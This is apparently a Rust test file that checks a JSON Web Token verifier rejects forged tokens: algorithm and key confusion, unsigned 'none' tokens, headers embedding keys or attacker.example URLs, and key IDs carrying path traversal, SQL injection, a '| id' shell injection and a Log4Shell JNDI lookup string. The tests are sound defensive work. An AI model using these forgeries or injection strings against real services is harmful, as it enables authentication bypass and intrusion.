//! Algorithm and key confusion (RFC 8725, sections 2 and 3). A verifier that lets the token choose its algorithm or key
//! accepts the forgeries in these tests.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::crypto;
use serde_json::{Value, json};
use steward_testkit::at;
use steward_testkit::signing_keys::{ED25519, ED25519_ID, ED25519_NEXT, ED25519_PUBLIC, P256, P256_PUBLIC};

use super::tests::{KEY, valid_claims};
use super::*;
use crate::testing::signing_with;

/// Keys of every kind: Ed25519 signs; P-256 and the secret only verify.
fn mixed_tokens() -> Tokens {
    Tokens::new(&TokenKeys { current: KEY.into(), ..signing_with(ED25519, Some(P256_PUBLIC)) })
}

fn signing_key(pem: &str) -> EncodingKey {
    SigningKey::from_pem(&pem.into()).unwrap().signing
}

fn key_id(pem: &str) -> String {
    PublicKey::from_pem(&pem.into()).unwrap().id().to_owned()
}

fn unsigned(header: &Value) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), URL_SAFE_NO_PAD.encode(valid_claims().to_string()))
}

/// Returns a token with this header, signed with this key and algorithm, which the header may contradict.
fn sign_token(header: &Value, key: &EncodingKey, algorithm: Algorithm) -> String {
    let message = unsigned(header);
    let signature = crypto::sign(message.as_bytes(), key, algorithm).unwrap();
    format!("{message}.{signature}")
}

#[track_caller]
fn is_accepted(token: &str) -> bool {
    mixed_tokens().verify(token, at(1)).is_ok()
}

/// The control: each kind of token is accepted with the right key and algorithm.
#[test]
fn the_right_key_with_its_own_algorithm_is_accepted() {
    let (ed25519, p256) = (key_id(ED25519), key_id(P256));
    assert!(is_accepted(&sign_token(
        &json!({"alg": "EdDSA", "kid": ed25519}),
        &signing_key(ED25519),
        Algorithm::EdDSA
    )));
    assert!(is_accepted(&sign_token(&json!({"alg": "ES256", "kid": p256}), &signing_key(P256), Algorithm::ES256)));
    let secret = EncodingKey::from_secret(KEY.as_bytes());
    assert!(is_accepted(&sign_token(&json!({"alg": "HS256"}), &secret, Algorithm::HS256)));
}

#[test]
fn a_public_key_is_not_accepted_as_a_secret() {
    for pem in [ED25519_PUBLIC, P256_PUBLIC] {
        let key = PublicKey::from_pem(&pem.into()).unwrap();
        let der = STANDARD.decode(pem.lines().filter(|line| !line.starts_with('-')).collect::<String>()).unwrap();
        let jwk = key.jwk();
        let (x, y) = (&jwk.x, jwk.y.clone().unwrap_or_default());
        let coordinates = [URL_SAFE_NO_PAD.decode(x).unwrap(), URL_SAFE_NO_PAD.decode(&y).unwrap()].concat();
        for bytes in [
            pem.as_bytes(),
            pem.trim_end().as_bytes(),
            &der,
            key.verification.try_get_as_bytes().unwrap(),
            &coordinates,
            x.as_bytes(),
            key.id().as_bytes(),
            serde_json::to_string(jwk).unwrap().as_bytes(),
            serde_json::to_string(&mixed_tokens().published()).unwrap().as_bytes(),
            b"",
        ] {
            let secret = EncodingKey::from_secret(bytes);
            for header in [
                json!({"alg": "HS256", "kid": key.id()}),
                json!({"alg": "HS256"}),
                json!({"alg": jwk.alg, "kid": key.id()}),
                json!({"alg": jwk.alg}),
            ] {
                assert!(!is_accepted(&sign_token(&header, &secret, Algorithm::HS256)), "{header}: {bytes:?}");
            }
        }
    }
}

#[test]
fn a_key_verifies_its_own_algorithm_only() {
    let secret = EncodingKey::from_secret(KEY.as_bytes());
    let named = [key_id(ED25519), key_id(P256)];
    // The secret does not verify a token that names another key.
    for kid in &named {
        assert!(!is_accepted(&sign_token(&json!({"alg": "HS256", "kid": kid}), &secret, Algorithm::HS256)));
    }
    for (pem, algorithm, own) in [(ED25519, Algorithm::EdDSA, "EdDSA"), (P256, Algorithm::ES256, "ES256")] {
        for alg in ["HS256", "HS384", "HS512", "ES256", "ES384", "EdDSA", "RS256", "PS256", "none"] {
            for kid in named.iter().map(Some).chain([None]) {
                let header = json!({"alg": alg, "kid": kid});
                let is_right = alg == own && kid == Some(&key_id(pem));
                assert_eq!(is_accepted(&sign_token(&header, &signing_key(pem), algorithm)), is_right, "{header}");
            }
        }
    }
}

#[test]
fn an_unsigned_token_is_rejected() {
    for alg in ["none", "None", "NONE", "nOnE", "", "EdDSA", "ES256", "HS256"] {
        for kid in [Some(key_id(ED25519)), Some(key_id(P256)), None] {
            let message = unsigned(&json!({"alg": alg, "kid": kid}));
            for signature in ["", ".", ".AA", &format!(".{}", "A".repeat(43)), &format!(".{}", "A".repeat(86))] {
                assert!(!is_accepted(&format!("{message}{signature}")), "{alg} {kid:?} {signature}");
            }
        }
    }
}

#[test]
fn a_foreign_key_is_rejected_with_any_key_id() {
    let foreign = signing_key(ED25519_NEXT);
    for kid in [Some(key_id(ED25519_NEXT)), Some(key_id(ED25519)), Some(key_id(P256)), None] {
        let header = json!({"alg": "EdDSA", "kid": kid});
        assert!(!is_accepted(&sign_token(&header, &foreign, Algorithm::EdDSA)), "{header}");
    }
}

/// CVE-2018-0114 and similar attacks.
#[test]
fn an_embedded_key_is_ignored() {
    let foreign = PublicKey::from_pem(&ED25519_NEXT.into()).unwrap();
    let certificate = STANDARD.encode(foreign.jwk().x.as_bytes());
    for embedded in [
        json!({"jwk": foreign.jwk()}),
        json!({"jku": "https://attacker.example/jwks.json"}),
        json!({"jku": "file:///tmp/jwks.json"}),
        json!({"x5u": "https://attacker.example/chain.pem"}),
        json!({"x5c": [certificate]}),
        json!({"jwk": foreign.jwk(), "jku": "https://attacker.example/jwks.json", "x5c": [certificate]}),
    ] {
        let with = |kid: Option<&str>| {
            let mut header = json!({"alg": "EdDSA"});
            header.as_object_mut().unwrap().extend(embedded.as_object().unwrap().clone());
            header.as_object_mut().unwrap().extend(kid.map(|kid| ("kid".to_owned(), kid.into())));
            header
        };
        for kid in [None, Some(foreign.id()), Some(ED25519_ID)] {
            let header = with(kid);
            assert!(!is_accepted(&sign_token(&header, &signing_key(ED25519_NEXT), Algorithm::EdDSA)), "{header}");
        }
        // The embedded key does not invalidate a token that is signed with the right key.
        let header = with(Some(ED25519_ID));
        assert!(is_accepted(&sign_token(&header, &signing_key(ED25519), Algorithm::EdDSA)), "{header}");
    }
}

#[test]
fn a_key_id_is_only_compared() {
    let trap = format!("{ED25519_ID}\0");
    let long = "k".repeat(2000);
    for kid in [
        "",
        " ",
        "0",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://attacker.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "| id",
        "${jndi:ldap://attacker.example/a}",
        "\0",
        "키",
        &trap,
        &long,
        &ED25519_ID.to_lowercase(),
        &ED25519_ID[..42],
        &format!(" {ED25519_ID}"),
    ] {
        // The content that such a key id may resolve to: an empty file, a database row, the server's secret, the
        // server's key.
        for secret in ["", "secret", "1", KEY] {
            let header = json!({"alg": "HS256", "kid": kid});
            assert!(
                !is_accepted(&sign_token(&header, &EncodingKey::from_secret(secret.as_bytes()), Algorithm::HS256)),
                "{header}"
            );
        }
        let header = json!({"alg": "EdDSA", "kid": kid});
        assert!(!is_accepted(&sign_token(&header, &signing_key(ED25519), Algorithm::EdDSA)), "{header}");
    }
}

#[test]
fn a_header_is_limited_by_the_size_of_the_token() {
    let with_padding = |length: usize| {
        let header = json!({"alg": "EdDSA", "kid": ED25519_ID, "padding": "x".repeat(length)});
        sign_token(&header, &signing_key(ED25519), Algorithm::EdDSA)
    };
    assert!(is_accepted(&with_padding(100)));
    for length in [MAX_LENGTH, 10 * MAX_LENGTH] {
        assert!(!is_accepted(&with_padding(length)));
    }
    let long = json!({"alg": "EdDSA", "kid": "k".repeat(MAX_LENGTH)});
    assert!(!is_accepted(&sign_token(&long, &signing_key(ED25519), Algorithm::EdDSA)));
    let deep = (0..600).fold(json!(1), |inner, _| json!([inner]));
    let deep = json!({"alg": "EdDSA", "kid": ED25519_ID, "padding": deep});
    assert!(!is_accepted(&sign_token(&deep, &signing_key(ED25519), Algorithm::EdDSA)));
}

#[test]
fn a_critical_extension_is_rejected() {
    let header = json!({"alg": "EdDSA", "kid": ED25519_ID, "crit": ["b64"], "b64": false});
    assert!(!is_accepted(&sign_token(&header, &signing_key(ED25519), Algorithm::EdDSA)));
}

#[test]
fn a_modified_token_is_rejected() {
    // Every fourth byte only, since verification with these keys is slow.
    for (pem, alg, algorithm) in [(ED25519, "EdDSA", Algorithm::EdDSA), (P256, "ES256", Algorithm::ES256)] {
        let token = sign_token(&json!({"alg": alg, "kid": key_id(pem)}), &signing_key(pem), algorithm);
        assert!(is_accepted(&token));
        for at_byte in (0..token.len()).step_by(4).chain([token.len() - 1]) {
            let mut bytes = token.clone().into_bytes();
            bytes[at_byte] = if bytes[at_byte] == b'A' { b'Q' } else { b'A' };
            assert!(!is_accepted(&String::from_utf8(bytes).unwrap()), "{alg}, byte {at_byte}");
        }
    }
}
